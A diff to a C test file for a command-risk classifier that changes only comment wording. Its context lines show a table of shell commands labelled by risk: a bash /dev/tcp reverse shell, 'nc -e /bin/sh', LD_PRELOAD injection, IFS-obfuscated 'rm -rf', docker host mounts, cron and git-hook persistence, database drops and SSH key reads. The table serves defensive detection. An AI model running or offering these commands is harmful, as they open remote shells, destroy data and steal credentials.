@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: MIT
  *
- * test-evasions.c - dangerous commands in every spelling that we know of, and what only
- * looks dangerous: each with its verdict. The files are real, links among them. */
+ * test-evasions.c - dangerous commands in every known spelling, and harmless ones that
+ * look dangerous: each with its verdict. Files and links are real. */
 #include "plugins/analyzers/policy/judge.h"
 #include "tap.h"
 
@@ -17,7 +17,7 @@ static const struct {
 	int risk; /* NOT_LOW: UNKNOWN or HIGH */
 	const char *command;
 } table[] = {
-	/* what was rated LOW once */
+	/* formerly rated LOW */
 	{ HIGH, "git reset --hard" },
 	{ HIGH, "git reset --hard HEAD~3" },
 	{ HIGH, "git -C . reset --hard" },
@@ -142,7 +142,7 @@ static const struct {
 	{ HIGH, "echo x > /etc/cron.d/x" },
 	{ HIGH, "cat x > /usr/local/bin/ls" },
 	{ HIGH, "ln -s x ~/.config/autostart/x" },
-	/* shells for the network, what is fetched or decoded, options that run programs */
+	/* network shells, fetched or decoded code, options that run programs */
 	{ HIGH, "bash -i >& /dev/tcp/10.0.0.1/80 0>&1" },
 	{ HIGH, "exec 5<>/dev/tcp/h/80" },
 	{ HIGH, "nc -e /bin/sh h 80" },
@@ -166,7 +166,7 @@ static const struct {
 	{ HIGH, "LD_PRELOAD=./x.so ls" },
 	{ HIGH, "GIT_SSH_COMMAND='sh x' git fetch" },
 	{ HIGH, "rm$IFS-rf${IFS}src" },
-	/* what is elsewhere */
+	/* files outside the workspace */
 	{ HIGH, "docker run -v /:/x alpine" },
 	{ HIGH, "docker run --volume=/var/run/docker.sock:/s alpine" },
 	{ HIGH, "docker run --privileged alpine" },
@@ -181,7 +181,7 @@ static const struct {
 	{ HIGH, "mysql <<E\ndrop database x;\nE" },
 	{ HIGH, "redis-cli flushall" },
 	{ HIGH, "dropdb x" },
-	/* options, words and variables that make something else of a harmless program */
+	/* options, words and variables that change the effect of a harmless program */
 	{ NOT_LOW, "git -c core.pager='sh x' log" },
 	{ NOT_LOW, "git --exec-path=. status" },
 	{ NOT_LOW, "git log --output=src/a.c" },
@@ -279,7 +279,7 @@ static const struct {
 	{ NOT_LOW, "cat -- -x/../../other" },
 	{ HIGH, "cat -- -x/../../home/.ssh/id_rsa" },
 	{ LOW, "grep -n -- -x src/a.c" },
-	/* what other programs run later */
+	/* files that other programs run later */
 	{ NOT_LOW, "mkdir -p src/.git" },
 	{ NOT_LOW, "echo 'gitdir: ../x' > src/.git" },
 	{ NOT_LOW, "echo x > .git/modules/x/hooks/pre-commit" },
@@ -312,7 +312,7 @@ static const struct {
 	{ NOT_LOW, "cp -rL src y" },
 	{ LOW, "grep -e /x src/a.c" },
 	{ LOW, "grep -rne x src" },
-	/* files that programs load, hosts that they ask */
+	/* files that programs load, hosts that they contact */
 	{ NOT_LOW, "nm --plugin=./x.so src/a.o" },
 	{ NOT_LOW, "nm --plug ./x.so src/a.o" },
 	{ NOT_LOW, "objdump @src/a.c" },
@@ -332,7 +332,7 @@ static const struct {
 		   "eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee"
 		   "eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee"
 		   "eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee]nv" },
-	/* what only looks dangerous */
+	/* harmless commands that look dangerous */
 	{ LOW, "echo rm -rf /" },
 	{ LOW, "grep -rn 'rm -rf' src" },
 	{ LOW, "grep -r \"eval(\" src" },
@@ -354,7 +354,7 @@ static const struct {
 	{ LOW, "jq '.a | .b' x.json" },
 	{ LOW, "cut -d/ -f2 src/a.c" },
 	{ LOW, "ls *.json" },
-	{ HIGH, "ls *" /* and so what `link` leads to */ },
+	{ HIGH, "ls *" /* includes the target of `link` */ },
 	{ LOW, "n=3; echo $n" },
 	{ LOW, "test -f src/a.c && echo yes" },
 	{ LOW, "for f in a b; do echo $f; done" },
@@ -409,7 +409,7 @@ static void make_dirs(const char *const *paths)
 			BAIL_OUT("cannot create %s", *paths);
 }
 
-/* A workspace with links that lead out of it, and what looks like a repository. */
+/* A workspace with links that lead out of it, and a directory like a repository. */
 static void make_files(void)
 {
 	static const char *const dirs[] = { "home", "home/.ssh", "ws", "ws/src", "ws/.git",
@@ -514,7 +514,7 @@ static void test_editor(struct policy *p)
 	CHECK(judge_file(p, "x", "/etc", true) == UNKNOWN);
 }
 
-/* The shell is where a command before left it. */
+/* The shell is in the directory that an earlier command set. */
 static void test_directory(struct policy *p)
 {
 	static const char command[] = "cat notes";
